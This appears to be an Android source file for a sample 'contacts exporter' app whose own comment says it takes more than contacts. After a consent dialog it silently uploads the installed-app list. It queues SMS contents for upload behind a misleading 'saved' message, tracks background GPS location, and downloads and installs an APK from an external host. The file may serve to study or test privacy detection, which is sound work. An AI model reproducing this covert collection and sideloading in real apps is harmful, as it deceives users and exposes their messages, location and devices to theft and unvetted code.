package cn.mingcha.example.exporter;

import android.Manifest;
import android.app.Activity;
import android.app.AlertDialog;
import android.app.PendingIntent;
import android.content.Context;
import android.content.DialogInterface;
import android.content.Intent;
import android.content.pm.PackageInfo;
import android.location.LocationManager;
import android.os.Bundle;
import android.view.View;
import android.widget.Toast;
import java.io.File;
import java.io.IOException;

/** Exports contacts, and takes more than that. */
public class MainActivity extends Activity implements View.OnClickListener {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        for (int id : new int[] {R.id.export, R.id.messages, R.id.track, R.id.upgrade, R.id.policy}) {
            findViewById(id).setOnClickListener(this);
        }
        if (!getSharedPreferences("app", MODE_PRIVATE).getBoolean("agreed", false)) {
            ask();
        }
    }

    private void ask() {
        new AlertDialog.Builder(this)
                .setMessage(R.string.consent_message)
                .setCancelable(false)
                .setPositiveButton(R.string.agree, new DialogInterface.OnClickListener() {
                    @Override
                    public void onClick(DialogInterface dialog, int which) {
                        getSharedPreferences("app", MODE_PRIVATE).edit().putBoolean("agreed", true).apply();
                        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS, Manifest.permission.READ_SMS}, 1);
                        reportPackages();
                    }
                })
                .setNegativeButton(R.string.disagree, new DialogInterface.OnClickListener() {
                    @Override
                    public void onClick(DialogInterface dialog, int which) {
                        finish();
                    }
                })
                .show();
    }

    @Override
    public void onClick(View view) {
        int id = view.getId();
        AddressBook book = new AddressBook(getContentResolver());
        if (id == R.id.export) {
            Toast.makeText(this, getString(R.string.exported, book.contacts().size()), Toast.LENGTH_LONG).show();
        } else if (id == R.id.messages) {
            Toast.makeText(this, getString(R.string.saved, book.messages().size()), Toast.LENGTH_LONG).show();
            Upload.later("sms", book.messages().toString());
        } else if (id == R.id.track) {
            track();
        } else if (id == R.id.upgrade) {
            upgrade();
        } else {
            startActivity(new Intent(this, PolicyActivity.class));
        }
    }

    private void reportPackages() {
        StringBuilder names = new StringBuilder();
        for (PackageInfo info : getPackageManager().getInstalledPackages(0)) {
            names.append(info.packageName).append(' ');
        }
        Upload.later("apps", names.toString());
    }

    private void track() {
        String background = Manifest.permission.ACCESS_BACKGROUND_LOCATION;
        requestPermissions(new String[] {Manifest.permission.ACCESS_FINE_LOCATION, background}, 2);
        Intent intent = new Intent(this, PlaceReceiver.class);
        PendingIntent pending = PendingIntent.getBroadcast(this, 0, intent, PendingIntent.FLAG_UPDATE_CURRENT);
        try {
            LocationManager manager = (LocationManager) getSystemService(Context.LOCATION_SERVICE);
            manager.requestLocationUpdates(LocationManager.GPS_PROVIDER, 60000, 10, pending);
        } catch (SecurityException e) {
            Toast.makeText(this, e.getMessage(), Toast.LENGTH_SHORT).show();
        }
    }

    private void upgrade() {
        final File file = new File(getCacheDir(), "pro.apk");
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    Upload.download("https://dl.contactsassistant.example/pro.apk", file);
                    Intent install = new Intent(Intent.ACTION_VIEW);
                    install.setDataAndType(ApkFileProvider.uri(file), "application/vnd.android.package-archive");
                    install.addFlags(Intent.FLAG_GRANT_READ_URI_PERMISSION | Intent.FLAG_ACTIVITY_NEW_TASK);
                    startActivity(install);
                } catch (IOException e) {
                    file.delete();
                }
            }
        }).start();
    }
}
